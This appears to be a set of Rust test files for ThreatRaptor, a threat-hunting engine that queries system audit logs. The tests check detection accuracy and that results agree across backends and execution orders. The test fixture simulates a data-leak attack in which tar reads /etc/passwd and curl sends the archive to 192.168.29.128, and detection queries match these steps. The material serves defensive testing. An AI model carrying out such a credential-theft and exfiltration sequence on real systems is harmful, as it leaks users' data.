        [("tc_clearscope_1", 6), ("tc_theia_1", 3), ("tc_trace_2", 7), ("vpnfilter", 178)]
    {
        let (tp, found, gt) = hunt_counts(id);
        assert_eq!(tp, expected, "{id}");
        assert_eq!(found, expected, "{id}: precision must be 100%");
        assert_eq!(gt, expected, "{id}");
    }
}

#[test]
fn aggregate_hunting_matches_paper_shape() {
    // Totals over all 18 cases: perfect precision, ~97% recall
    // (paper: 1425/1425 and 1425/1473 = 96.74%).
    let (mut tp, mut found, mut gt) = (0, 0, 0);
    for c in all_cases() {
        let (t, f, g) = hunt_counts(c.id);
        tp += t;
        found += f;
        gt += g;
    }
    assert_eq!(tp, found, "no false positives anywhere");
    let recall = tp as f64 / gt as f64;
    assert!(recall > 0.95 && recall < 1.0, "recall {recall}");
}

#[test]
fn extraction_beats_both_baselines_in_aggregate() {
    let mut ours = PrF1::default();
    let mut baseline = PrF1::default();
    for c in all_cases() {
        let out = threatraptor::extract::extract(c.report);
        let texts: Vec<String> = out.entities.iter().map(|e| e.text.clone()).collect();
        ours.add(raptor_cases::score_entities(&texts, c.gt_entities));
        let b = threatraptor::extract::openie::run_baseline(c.report, false, false);
        baseline.add(raptor_cases::score_entities(&b.entities, c.gt_entities));
    }
    assert!(ours.f1() > 0.9, "ThreatRaptor entity F1 {}", ours.f1());
    assert!(baseline.f1() < 0.2, "baseline entity F1 {}", baseline.f1());
}
