//! Order invariance: cost-based reordering can never change results.
//!
//! The scheduler is free to execute a query's pattern data queries in any
//! order — ordering only changes which propagated `IN` sets constrain which
//! data query, never the joined result. This property is what licenses the
//! statistics-driven scheduler to reorder at will, so it is pinned here:
//! **any permutation** of the execution order yields identical
//! `sorted_rows()` on both backends (event patterns exercise the relational
//! store; the length-1 path rewrite exercises the graph store).

use proptest::prelude::*;
use rand::{rngs::StdRng, Rng, SeedableRng};
use raptor_bench::corpus::corpus_system;
use threatraptor::engine::exec::to_length1_path_query;
use threatraptor::tbql::print::print_query;
use threatraptor::ThreatRaptor;

const QUERIES: &[&str] = threatraptor::tbql::parser::EQUIV_CORPUS;

thread_local! {
    /// Built once per test thread — the property only reads it.
    static SYSTEM: ThreatRaptor = corpus_system();
}

fn permutation(n: usize, seed: u64) -> Vec<usize> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut order: Vec<usize> = (0..n).collect();
    for i in (1..n).rev() {
        let j = rng.gen_range(0..(i + 1));
        order.swap(i, j);
    }
    order
}

proptest! {
    /// Any corpus query, either backend variant, any execution order:
    /// identical results.
    #[test]
    fn any_execution_order_yields_identical_results(
        case_idx in 0usize..16,
        seed in 0u64..1_000_000,
    ) {
        let q = QUERIES[case_idx % QUERIES.len()];
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        // Even indices: event-pattern form (relational backend); odd:
        // length-1 path form (graph backend).
        let text = if case_idx < QUERIES.len() {
            print_query(&parsed)
        } else {
            print_query(&to_length1_path_query(&parsed))
        };
        let aq = threatraptor::tbql::analyze(
            &threatraptor::tbql::parse_tbql(&text).unwrap(),
        )
        .unwrap();
        let order = permutation(aq.patterns.len(), seed);
        SYSTEM.with(|raptor| {
            let engine = raptor.engine();
            let (canonical, _) = engine
                .execute(&aq, threatraptor::engine::ExecMode::Scheduled)
                .unwrap();
            let (forced, stats) = engine.execute_with_order(&aq, &order).unwrap();
            prop_assert_eq!(&stats.execution_order, &order);
            prop_assert_eq!(
                forced.sorted_rows(),
                canonical.sorted_rows(),
                "order {:?} changed results for: {}",
                order,
                text
            );
        });
    }
}

/// Degenerate orders are rejected rather than silently reinterpreted.
#[test]
fn non_permutations_rejected() {
    let raptor = corpus_system();
    let engine = raptor.engine();
    let aq =
        threatraptor::tbql::analyze(&threatraptor::tbql::parse_tbql(QUERIES[1]).unwrap()).unwrap();
    assert!(engine.execute_with_order(&aq, &[0]).is_err(), "wrong length");
    assert!(engine.execute_with_order(&aq, &[0, 0]).is_err(), "duplicate index");
    assert!(engine.execute_with_order(&aq, &[0, 2]).is_err(), "out of range");
    assert!(engine.execute_with_order(&aq, &[1, 0]).is_ok());
}
