//! Cross-backend equivalence: the scheduled plan (typed `StorageBackend`
//! path), the giant-SQL plan and the giant-Cypher plan must return identical
//! result sets for the same query — the paper's "all these four types of
//! queries search for the same system behaviors and return the same
//! results". The scheduled plan must additionally be *parse-free*: zero
//! SQL/Cypher texts parsed end to end.

use threatraptor::audit::sim::{generate_background, BackgroundProfile, Simulator};
use threatraptor::common::time::Timestamp;
use threatraptor::engine::exec::{to_length1_path_query, ExecMode, QueryKind};
use threatraptor::tbql::print::print_query;
use threatraptor::ThreatRaptor;

fn system() -> ThreatRaptor {
    let mut sim = Simulator::new(77, Timestamp::from_secs(1_500_000_000));
    generate_background(
        &mut sim,
        &BackgroundProfile { users: 6, sessions: 80, ..Default::default() },
    );
    let shell = sim.boot_process("/bin/bash", "root");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4096, 4);
    sim.write_file(tar, "/tmp/upload.tar", 4096, 4);
    sim.exit(tar);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl");
    sim.read_file(curl, "/tmp/upload.tar", 4096, 2);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 4096, 4);
    sim.exit(curl);
    ThreatRaptor::from_records(&sim.finish()).unwrap()
}

/// The equivalence corpus: every query here must produce identical
/// `sorted_rows()` under Scheduled (typed), GiantSql and GiantCypher.
/// (Giant modes support plain before/after only, so the corpus stays within
/// that fragment; richer scheduled-only features are covered by unit tests.)
const QUERIES: &[&str] = &[
    r#"proc p["%/bin/tar%"] read file f["%/etc/passwd%"] as e1 return p, f"#,
    r#"proc p["%/bin/tar%"] read file f1["%/etc/passwd%"] as e1
       proc p write file f2["%/tmp/upload.tar%"] as e2
       with e1 before e2
       return distinct p, f1, f2"#,
    r#"proc p1["%tar%"] write file f["%upload%"] as e1
       proc p2["%curl%"] read file f as e2
       proc p2 connect ip i as e3
       with e1 before e2, e2 before e3
       return distinct p1, p2, f, i"#,
    r#"proc p read || write file f["%/tmp/upload.tar%"] as e1 return distinct p, f"#,
    r#"proc p["%curl%"] connect ip i["%192.168.29.128%"] as e1 return p, i"#,
    r#"proc p1 write file f["%upload%"] as e1
       proc p2 read file f as e2
       with p1.user = p2.user
       return distinct p1, p2, f"#,
    r#"proc p["%/bin/tar%"] read file f as e1 return distinct p, f, e1.optype"#,
    r#"proc p write file f["%upload%"] as e1 return distinct f, e1.amount"#,
];

#[test]
fn scheduled_equals_giant_sql() {
    let raptor = system();
    for q in QUERIES {
        let (a, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let (b, _) = raptor.query_with_mode(q, ExecMode::GiantSql).unwrap();
        assert_eq!(a.sorted_rows(), b.sorted_rows(), "query: {q}");
        assert!(!a.rows.is_empty(), "query should match: {q}");
    }
}

#[test]
fn scheduled_equals_giant_cypher() {
    let raptor = system();
    for q in QUERIES {
        let (a, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let (c, _) = raptor.query_with_mode(q, ExecMode::GiantCypher).unwrap();
        assert_eq!(a.sorted_rows(), c.sorted_rows(), "query: {q}");
    }
}

#[test]
fn event_patterns_equal_length1_paths() {
    // Variant (c): the same query rewritten with `->[op]` syntax runs on
    // the graph backend and must agree.
    let raptor = system();
    for q in QUERIES {
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let path_q = print_query(&to_length1_path_query(&parsed));
        let (a, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let (p, stats) = raptor.query_with_mode(&path_q, ExecMode::Scheduled).unwrap();
        assert_eq!(a.sorted_rows(), p.sorted_rows(), "query: {q}");
        assert!(
            stats
                .queries
                .iter()
                .any(|qi| qi.kind == QueryKind::PathPattern && qi.backend == "graph"),
            "path variant must hit the graph backend: {:?}",
            stats.queries
        );
    }
}

/// The typed plane's contract: scheduled execution issues zero SQL/Cypher
/// text parses for every corpus query, while still agreeing with the
/// parser-driven seed pipeline.
#[test]
fn scheduled_mode_is_parse_free_across_corpus() {
    let raptor = system();
    let engine = raptor.engine();
    for q in QUERIES {
        let parses_before = engine.stores.rel.text_parse_count();
        let (typed, stats) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        assert_eq!(stats.text_parses, 0, "engine parsed text for: {q}");
        assert_eq!(stats.backend.text_parses, 0, "backend parsed text for: {q}");
        assert_eq!(
            engine.stores.rel.text_parse_count(),
            parses_before,
            "relational store parsed SQL for: {q}"
        );
        // And the typed path agrees with the stringly seed pipeline.
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let aq = threatraptor::tbql::analyze(&parsed).unwrap();
        let (text, text_stats) = engine.execute_scheduled_via_text(&aq).unwrap();
        assert_eq!(typed.sorted_rows(), text.sorted_rows(), "query: {q}");
        assert!(text_stats.text_parses > 0, "compat path exercises the parsers");
    }
}

/// `items_inserted` accounting: query execution never inserts, and the
/// streaming ingest path counts exactly one insert per record per backend,
/// with per-epoch reset semantics (each report counts only its own epoch).
#[test]
fn items_inserted_counted_on_ingest_only() {
    let raptor = system();
    for q in QUERIES {
        for mode in [ExecMode::Scheduled, ExecMode::GiantSql, ExecMode::GiantCypher] {
            let (_, stats) = raptor.query_with_mode(q, mode).unwrap();
            assert_eq!(stats.backend.items_inserted, 0, "{mode:?} inserted during {q}");
        }
    }

    // Grow the same data incrementally: 2 backends × (entities + events).
    let mut sim = Simulator::new(77, Timestamp::from_secs(1_500_000_000));
    let shell = sim.boot_process("/bin/bash", "root");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4096, 4);
    sim.exit(tar);
    let log = threatraptor::audit::LogParser::parse(&sim.finish());
    let mut session = threatraptor::stream::StreamSession::new().unwrap();
    let mut epoch_sum = 0usize;
    for batch in
        threatraptor::stream::EpochStream::new(&log, threatraptor::stream::EpochPolicy::ByCount(2))
    {
        let report = session.ingest_batch(&batch).unwrap();
        assert_eq!(
            report.ingest_stats.items_inserted,
            2 * (report.entities_ingested + report.events_ingested),
            "per-epoch counter must reset"
        );
        epoch_sum += report.ingest_stats.items_inserted;
    }
    let total = session.total_ingest_stats().items_inserted;
    assert_eq!(total, epoch_sum);
    assert_eq!(total, 2 * (log.entities.len() + log.events.len()));
}

#[test]
fn negative_queries_empty_everywhere() {
    let raptor = system();
    let q = r#"proc p["%/bin/absent%"] read file f as e1 return p, f"#;
    for mode in [ExecMode::Scheduled, ExecMode::GiantSql, ExecMode::GiantCypher] {
        let (r, _) = raptor.query_with_mode(q, mode).unwrap();
        assert!(r.rows.is_empty(), "{mode:?}");
    }
}
