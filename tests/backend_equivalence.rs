//! Cross-backend equivalence: the scheduled plan (typed `StorageBackend`
//! path), the giant-SQL plan and the giant-Cypher plan must return identical
//! result sets for the same query — the paper's "all these four types of
//! queries search for the same system behaviors and return the same
//! results". The scheduled plan must additionally be *parse-free*: zero
//! SQL/Cypher texts parsed end to end.

use threatraptor::audit::sim::Simulator;
use threatraptor::common::time::Timestamp;
use threatraptor::engine::exec::{to_length1_path_query, ExecMode, QueryKind};
use threatraptor::engine::SchedulerMode;
use threatraptor::tbql::print::print_query;
use threatraptor::ThreatRaptor;

/// The one authoritative corpus scenario (data-leak attack over background
/// noise), shared with the scheduler benches and the `bench_smoke` gate.
fn system() -> ThreatRaptor {
    raptor_bench::corpus::corpus_system()
}

/// The equivalence corpus (shared constant: the scheduler's order-pinning
/// tests and the `bench_smoke` CI gate run the same eight queries): every
/// query here must produce identical `sorted_rows()` under Scheduled
/// (typed), GiantSql and GiantCypher. (Giant modes support plain
/// before/after only, so the corpus stays within that fragment; richer
/// scheduled-only features are covered by unit tests.)
const QUERIES: &[&str] = threatraptor::tbql::parser::EQUIV_CORPUS;

#[test]
fn scheduled_equals_giant_sql() {
    let raptor = system();
    for q in QUERIES {
        let (a, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let (b, _) = raptor.query_with_mode(q, ExecMode::GiantSql).unwrap();
        assert_eq!(a.sorted_rows(), b.sorted_rows(), "query: {q}");
        assert!(!a.rows.is_empty(), "query should match: {q}");
    }
}

#[test]
fn scheduled_equals_giant_cypher() {
    let raptor = system();
    for q in QUERIES {
        let (a, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let (c, _) = raptor.query_with_mode(q, ExecMode::GiantCypher).unwrap();
        assert_eq!(a.sorted_rows(), c.sorted_rows(), "query: {q}");
    }
}

#[test]
fn event_patterns_equal_length1_paths() {
    // Variant (c): the same query rewritten with `->[op]` syntax runs on
    // the graph backend and must agree.
    let raptor = system();
    for q in QUERIES {
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let path_q = print_query(&to_length1_path_query(&parsed));
        let (a, _) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        let (p, stats) = raptor.query_with_mode(&path_q, ExecMode::Scheduled).unwrap();
        assert_eq!(a.sorted_rows(), p.sorted_rows(), "query: {q}");
        assert!(
            stats
                .queries
                .iter()
                .any(|qi| qi.kind == QueryKind::PathPattern && qi.backend == "graph"),
            "path variant must hit the graph backend: {:?}",
            stats.queries
        );
    }
}

/// The typed plane's contract: scheduled execution issues zero SQL/Cypher
/// text parses for every corpus query, while still agreeing with the
/// parser-driven seed pipeline.
#[test]
fn scheduled_mode_is_parse_free_across_corpus() {
    let raptor = system();
    let engine = raptor.engine();
    for q in QUERIES {
        let parses_before = engine.stores.rel.text_parse_count();
        let (typed, stats) = raptor.query_with_mode(q, ExecMode::Scheduled).unwrap();
        assert_eq!(stats.text_parses, 0, "engine parsed text for: {q}");
        assert_eq!(stats.backend.text_parses, 0, "backend parsed text for: {q}");
        assert_eq!(
            engine.stores.rel.text_parse_count(),
            parses_before,
            "relational store parsed SQL for: {q}"
        );
        // And the typed path agrees with the stringly seed pipeline.
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let aq = threatraptor::tbql::analyze(&parsed).unwrap();
        let (text, text_stats) = engine.execute_scheduled_via_text(&aq).unwrap();
        assert_eq!(typed.sorted_rows(), text.sorted_rows(), "query: {q}");
        assert!(text_stats.text_parses > 0, "compat path exercises the parsers");
    }
}

/// `items_inserted` accounting: query execution never inserts, and the
/// streaming ingest path counts exactly one insert per record per backend,
/// with per-epoch reset semantics (each report counts only its own epoch).
#[test]
fn items_inserted_counted_on_ingest_only() {
    let raptor = system();
    for q in QUERIES {
        for mode in [ExecMode::Scheduled, ExecMode::GiantSql, ExecMode::GiantCypher] {
            let (_, stats) = raptor.query_with_mode(q, mode).unwrap();
            assert_eq!(stats.backend.items_inserted, 0, "{mode:?} inserted during {q}");
        }
    }

    // Grow the same data incrementally: 2 backends × (entities + events).
    let mut sim = Simulator::new(77, Timestamp::from_secs(1_500_000_000));
    let shell = sim.boot_process("/bin/bash", "root");
    let tar = sim.spawn(shell, "/bin/tar", "tar");
    sim.read_file(tar, "/etc/passwd", 4096, 4);
    sim.exit(tar);
    let log = threatraptor::audit::LogParser::parse(&sim.finish());
    let mut session = threatraptor::stream::StreamSession::new().unwrap();
    let mut epoch_sum = 0usize;
    for batch in
        threatraptor::stream::EpochStream::new(&log, threatraptor::stream::EpochPolicy::ByCount(2))
    {
        let report = session.ingest_batch(&batch).unwrap();
        assert_eq!(
            report.ingest_stats.items_inserted,
            2 * (report.entities_ingested + report.events_ingested),
            "per-epoch counter must reset"
        );
        epoch_sum += report.ingest_stats.items_inserted;
    }
    let total = session.total_ingest_stats().items_inserted;
    assert_eq!(total, epoch_sum);
    assert_eq!(total, 2 * (log.entities.len() + log.events.len()));
}

/// The cost-based order is driven by `stats()`: estimates are populated
/// for every pattern on every corpus query, the scheduler reports
/// cost-based mode, and every executed pattern's Q-error is finite.
#[test]
fn cost_based_order_is_stats_driven() {
    let raptor = system();
    let engine = raptor.engine();
    for q in QUERIES {
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let aq = threatraptor::tbql::analyze(&parsed).unwrap();
        let (_, stats) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
        assert_eq!(stats.scheduler, Some(SchedulerMode::CostBased), "query: {q}");
        assert_eq!(stats.estimates.len(), aq.patterns.len());
        for e in &stats.estimates {
            let est = e.estimated_rows.unwrap_or_else(|| panic!("no estimate for {e:?}: {q}"));
            assert!(est.is_finite(), "estimate not finite: {e:?}");
            if e.actual_rows.is_some() {
                let qerr = e.q_error().unwrap();
                assert!(qerr.is_finite() && qerr >= 1.0, "bad q-error {qerr} for {e:?}: {q}");
            }
        }
        // Every pattern executed (nothing short-circuited on the corpus),
        // so actual rows are recorded throughout.
        assert!(stats.estimates.iter().all(|e| e.actual_rows.is_some()), "query: {q}");
    }
}

/// Cost-based reordering can never change results: rendered rows are
/// byte-identical across scheduler modes, for both the event-pattern form
/// (relational backend) and the length-1 path form (graph backend).
#[test]
fn results_identical_across_scheduler_modes() {
    let raptor = system();
    let engine = raptor.engine();
    for q in QUERIES {
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        for variant in [print_query(&parsed), print_query(&to_length1_path_query(&parsed))] {
            let aq =
                threatraptor::tbql::analyze(&threatraptor::tbql::parse_tbql(&variant).unwrap())
                    .unwrap();
            let (cost, _) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
            let (syn, _) = engine.execute_scheduled_as(&aq, SchedulerMode::Syntactic).unwrap();
            assert_eq!(cost.columns, syn.columns, "query: {variant}");
            assert_eq!(cost.sorted_rows(), syn.sorted_rows(), "query: {variant}");
        }
    }
}

/// The scheduler's showcase (corpus query 3): the cost-based order differs
/// from the syntactic one — the IOC'd `connect` runs before the weakly
/// constrained `read || write` — and does measurably less backend work.
#[test]
fn cost_based_order_beats_syntactic_on_showcase_query() {
    let raptor = system();
    let engine = raptor.engine();
    let aq =
        threatraptor::tbql::analyze(&threatraptor::tbql::parse_tbql(QUERIES[3]).unwrap()).unwrap();
    let work = |s: &threatraptor::engine::exec::EngineStats| {
        s.backend.items_scanned + s.backend.items_built + s.backend.edges_traversed
    };
    let (_, cost) = engine.execute_scheduled_as(&aq, SchedulerMode::CostBased).unwrap();
    let (_, syn) = engine.execute_scheduled_as(&aq, SchedulerMode::Syntactic).unwrap();
    assert_ne!(cost.execution_order, syn.execution_order);
    assert_eq!(cost.execution_order, vec![1, 0], "connect pattern first");
    assert!(
        2 * work(&cost) < work(&syn),
        "cost-based order should at least halve the work: {} vs {}",
        work(&cost),
        work(&syn)
    );
}

/// Both backends collect identical statistics from identical data — the
/// stats plane is backend-neutral by construction.
#[test]
fn backend_stats_agree() {
    use threatraptor::storage::{EntityClass, StorageBackend};
    let raptor = system();
    let engine = raptor.engine();
    let rel = engine.stores.rel.stats();
    let graph = engine.stores.graph.stats();
    assert_eq!(rel, graph);
    assert!(rel.table("events").unwrap().rows() > 0);
    assert_eq!(rel.total_nodes(), engine.stores.graph.node_count() as u64);
    assert_eq!(rel.total_edges(), engine.stores.graph.edge_count() as u64);
    assert!(rel.degree(EntityClass::Process).unwrap().avg_out() > 0.0);
    // The event-op frequency table is exact and served scan-free.
    let ops = rel.event_ops();
    assert!(ops.iter().any(|(op, n)| op == "connect" && *n > 0), "{ops:?}");
    let total: u64 = ops.iter().map(|(_, n)| n).sum();
    assert_eq!(total, rel.table("events").unwrap().rows());
}

#[test]
fn negative_queries_empty_everywhere() {
    let raptor = system();
    let q = r#"proc p["%/bin/absent%"] read file f as e1 return p, f"#;
    for mode in [ExecMode::Scheduled, ExecMode::GiantSql, ExecMode::GiantCypher] {
        let (r, _) = raptor.query_with_mode(q, mode).unwrap();
        assert!(r.rows.is_empty(), "{mode:?}");
    }
}

/// The golden file pinned from the pre-refactor (owned-string) pipeline:
/// per corpus query, the projected columns and `sorted_rows()` rendering.
fn golden_rows() -> Vec<(Vec<String>, Vec<Vec<String>>)> {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/golden/corpus_rows.txt"
    ))
    .expect("golden file (regenerate with `cargo run -p raptor-bench --bin golden_rows`)");
    let mut out: Vec<(Vec<String>, Vec<Vec<String>>)> = Vec::new();
    for line in text.lines() {
        if let Some(cols) = line.strip_prefix("columns ") {
            out.push((cols.split('\t').map(str::to_string).collect(), Vec::new()));
        } else if let Some(row) = line.strip_prefix("row ") {
            out.last_mut().unwrap().1.push(row.split('\t').map(str::to_string).collect());
        }
    }
    assert_eq!(out.len(), QUERIES.len(), "golden file covers the whole corpus");
    out
}

/// The shared-dictionary-plane hard contract: rendered output is
/// byte-identical to the pre-refactor golden rendering on every corpus
/// query × every exec mode × both backends (event + length-1 path forms) ×
/// bulk and stream-grown stores × threads {1, 2, 4, 8}.
#[test]
fn golden_corpus_rows_across_modes_builds_and_threads() {
    let golden = golden_rows();
    // Bulk-loaded and stream-grown corpus stores over the same log.
    let mut bulk = raptor_bench::corpus::corpus_system();
    let log = raptor_bench::corpus::corpus_log();
    let mut session = threatraptor::stream::StreamSession::new().unwrap();
    for batch in
        threatraptor::stream::EpochStream::new(&log, threatraptor::stream::EpochPolicy::ByCount(64))
    {
        session.ingest_batch(&batch).unwrap();
    }
    for &threads in &[1usize, 2, 4, 8] {
        bulk.set_threads(threads);
        session.set_threads(threads);
        for (i, q) in QUERIES.iter().enumerate() {
            let (want_cols, want_rows) = &golden[i];
            let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
            let path_q = print_query(&to_length1_path_query(&parsed));
            for mode in [ExecMode::Scheduled, ExecMode::GiantSql, ExecMode::GiantCypher] {
                let (r, _) = bulk.query_with_mode(q, mode).unwrap();
                assert_eq!(&r.columns, want_cols, "q{i} {mode:?} t{threads}");
                assert_eq!(&r.sorted_rows(), want_rows, "q{i} {mode:?} t{threads}");
            }
            // Length-1 path form (graph backend) and the stream-grown store.
            let (p, _) = bulk.query_with_mode(&path_q, ExecMode::Scheduled).unwrap();
            assert_eq!(&p.sorted_rows(), want_rows, "q{i} path t{threads}");
            for text in [*q, path_q.as_str()] {
                let (s, _) = session.engine().execute_text(text, ExecMode::Scheduled).unwrap();
                assert_eq!(&s.sorted_rows(), want_rows, "q{i} streamed t{threads}");
            }
        }
    }
}

/// The shared dictionary plane is literally *one* dictionary: both backends
/// and the engine hold handles to the same arena, and every string observed
/// from either store resolves identically through the other.
#[test]
fn one_dictionary_spans_both_backends() {
    let raptor = system();
    let stores = &raptor.engine().stores;
    assert!(stores.dict.ptr_eq(stores.rel.dict()), "relational store shares the plane");
    assert!(stores.dict.ptr_eq(stores.graph.dict()), "graph store shares the plane");
    assert!(
        stores.rel.store_stats().dict().ptr_eq(stores.graph.store_stats().dict()),
        "statistics key on the same plane"
    );
    assert!(!stores.dict.is_empty());
    for (sym, s) in stores.dict.iter() {
        assert_eq!(stores.rel.dict().resolve(sym), s);
        assert_eq!(stores.graph.dict().resolve(sym), s);
        assert_eq!(stores.graph.dict().get(s), Some(sym), "sym↔string mapping is a bijection");
    }
}

/// `strings_materialized` edge accounting: zero everywhere inside the
/// scheduled path (the pipeline is symbol-only), and exactly
/// rows × string-columns once the edge renders.
#[test]
fn strings_materialized_counted_only_at_the_edge() {
    let raptor = system();
    let engine = raptor.engine();
    for q in QUERIES {
        let parsed = threatraptor::tbql::parse_tbql(q).unwrap();
        let aq = threatraptor::tbql::analyze(&parsed).unwrap();
        // The un-rendered batch: the whole scheduled pipeline ran, no
        // string was materialized.
        let (batch, stats) = engine.execute_batch(&aq, ExecMode::Scheduled).unwrap();
        assert_eq!(stats.strings_materialized, 0, "off-edge must stay symbolic: {q}");
        // The rendered edge: exactly one String per string cell.
        let (table, stats) = engine.execute(&aq, ExecMode::Scheduled).unwrap();
        assert_eq!(stats.strings_materialized, batch.str_cells(), "{q}");
        // ... which is exactly rows × string-columns of the result.
        let str_cols = batch
            .cols
            .iter()
            .filter(|c| matches!(c, threatraptor::storage::ValueColumn::Str(_)))
            .count();
        assert_eq!(stats.strings_materialized, table.rows.len() * str_cols, "{q}");
        assert!(stats.strings_materialized > 0, "corpus queries all match: {q}");
    }
}
