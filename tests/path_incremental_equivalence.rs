//! Delta-incremental path matching ↔ batch equivalence.
//!
//! Pins the frontier-driven standing-query path plane to the batch
//! semantics, and the path cardinality catalog to the write seam:
//!
//! 1. **Delta concatenation** — for ANY epoch size, ANY (shuffled)
//!    delivery order, thread counts {1, 4} and segment capacities
//!    {7, 4096}, the per-epoch path deltas of a standing var-length path
//!    query concatenate byte-identically to a one-shot batch
//!    `ExecMode::Scheduled` re-evaluation over the same rows — and the
//!    streamed engine's own batch execution agrees with the bulk-loaded
//!    engine's.
//! 2. **Catalog equivalence** — the path cardinality catalog is
//!    maintained below the write seam, so a streamed (chunked, shuffled)
//!    ingest and a bulk load build identical catalogs by construction,
//!    on both backends.

use proptest::prelude::*;
use rand::{rngs::StdRng, Rng, SeedableRng};
use threatraptor::audit::SystemEvent;
use threatraptor::engine::exec::ExecMode;
use threatraptor::engine::load::load;
use threatraptor::engine::{Engine, ResultTable};
use threatraptor::stream::StreamSession;

/// Var-length path patterns (no single-hop envelope), so every one of
/// them exercises the delta-incremental frontier rather than the
/// event-delta fast path.
const PATH_QUERIES: &[&str] = &[
    "proc p ~>(1~3)[read] file f as e1 return p, f",
    "proc p ~>(2~4)[write] file f as e1 return p, f",
    "proc p ~>(1~2) file f as e1 return p, f",
    "proc p ~>(1~4) proc q as e1 return p, q",
];

fn shuffled(events: &[SystemEvent], seed: u64) -> Vec<SystemEvent> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out: Vec<SystemEvent> = events.to_vec();
    for i in (1..out.len()).rev() {
        let j = rng.gen_range(0..(i + 1));
        out.swap(i, j);
    }
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// Property: any epoch size × any delivery order × threads {1,4} ×
    /// segment capacities {7,4096} — path deltas concatenate to the batch
    /// result, and streamed catalogs equal bulk catalogs on both backends.
    #[test]
    fn shuffled_path_deltas_concatenate_to_batch(
        epoch_size in 1usize..300,
        seed in 0u64..1_000_000,
        threads_idx in 0usize..2,
        seg_idx in 0usize..2,
    ) {
        let threads = [1usize, 4][threads_idx];
        let seg_rows = [7usize, 4096][seg_idx];
        let spec = raptor_cases::catalog::case_by_id("data_leak").unwrap();
        let built = raptor_cases::build_case(spec, 0.2, 99);

        let mut session = StreamSession::new().unwrap();
        session.set_threads(threads);
        session.set_segment_rows(seg_rows);
        let qids: Vec<_> = PATH_QUERIES
            .iter()
            .enumerate()
            .map(|(i, q)| session.register(&format!("path{i}"), q).unwrap())
            .collect();

        let mut delta_rows: Vec<Vec<Vec<String>>> = vec![Vec::new(); PATH_QUERIES.len()];
        let events = shuffled(&built.log.events, seed);
        for chunk in events.chunks(epoch_size) {
            let report = session.ingest_chunk(&built.log, chunk).unwrap();
            for d in &report.deltas {
                prop_assert_eq!(d.stats.text_parses, 0, "delta evaluation parsed text");
                delta_rows[d.id.0].extend(ResultTable::from_batch(&d.delta).rows);
            }
        }
        let tail = session.flush_entities(&built.log).unwrap();
        for d in &tail.deltas {
            delta_rows[d.id.0].extend(ResultTable::from_batch(&d.delta).rows);
        }

        let bulk = Engine::new(load(&built.log).unwrap());
        let streamed = session.engine();
        for (i, q) in PATH_QUERIES.iter().enumerate() {
            let (expect, _) = bulk.execute_text(q, ExecMode::Scheduled).unwrap();
            let got = ResultTable::from_batch(&session.query(qids[i]).cumulative_batch());
            prop_assert_eq!(got.sorted_rows(), expect.sorted_rows(), "cumulative result for {}", q);
            delta_rows[i].sort();
            prop_assert_eq!(&delta_rows[i], &expect.sorted_rows(), "concatenated deltas for {}", q);
            let (sb, _) = streamed.execute_text(q, ExecMode::Scheduled).unwrap();
            prop_assert_eq!(sb.sorted_rows(), expect.sorted_rows(), "streamed batch for {}", q);
        }

        // Bulk vs stream build the catalog through different call paths
        // (load seam vs epoch ingest) yet must agree by construction.
        // Dictionaries differ across engines, so compare the canonical
        // (string-resolved) view, per backend.
        let pairs = [
            ("relational", streamed.stores.rel.store_stats(), bulk.stores.rel.store_stats()),
            ("graph", streamed.stores.graph.store_stats(), bulk.stores.graph.store_stats()),
        ];
        for (name, s, b) in pairs {
            prop_assert_eq!(
                s.catalog().canonical(&streamed.stores.dict),
                b.catalog().canonical(&bulk.stores.dict),
                "{} backend catalog diverged between stream and bulk",
                name
            );
        }
        // Within one engine both backends share a dictionary, so their
        // catalogs agree with each other too.
        prop_assert_eq!(
            streamed.stores.rel.store_stats().catalog().canonical(&streamed.stores.dict),
            streamed.stores.graph.store_stats().catalog().canonical(&streamed.stores.dict)
        );
    }
}
