//! Parallel-plane determinism: thread count is never observable.
//!
//! The parallel execution plane (scoped worker pool, partitioned relstore
//! scans and hash-join probes, per-anchor graph path search, concurrent
//! engine dependency chains) promises **byte-identical** execution at every
//! thread count: not just the same row *set* but the same row *order*, and
//! the same deterministic work counters (`BackendStats`, issued data
//! queries, execution order, short-circuit flag). This suite pins that
//! contract over the shared 8-query corpus:
//!
//! * both backends — every query runs in its event-pattern form (relational
//!   store) and its length-1 path form (graph store),
//! * thread counts {1, 2, 4, 8} — 1 takes the strictly sequential code
//!   paths, so every parallel run is compared against true sequential
//!   execution,
//! * both store builds — a bulk-loaded engine and a stream-grown session
//!   (epoch-by-epoch ingest), since the parallel read path must not care
//!   how the store was built.

use std::cell::RefCell;

use proptest::prelude::*;
use threatraptor::engine::exec::{to_length1_path_query, EngineStats, ExecMode};
use threatraptor::engine::load::load;
use threatraptor::engine::Engine;
use threatraptor::stream::{EpochPolicy, EpochStream, StreamSession};
use threatraptor::tbql::print::print_query;

const QUERIES: &[&str] = threatraptor::tbql::parser::EQUIV_CORPUS;
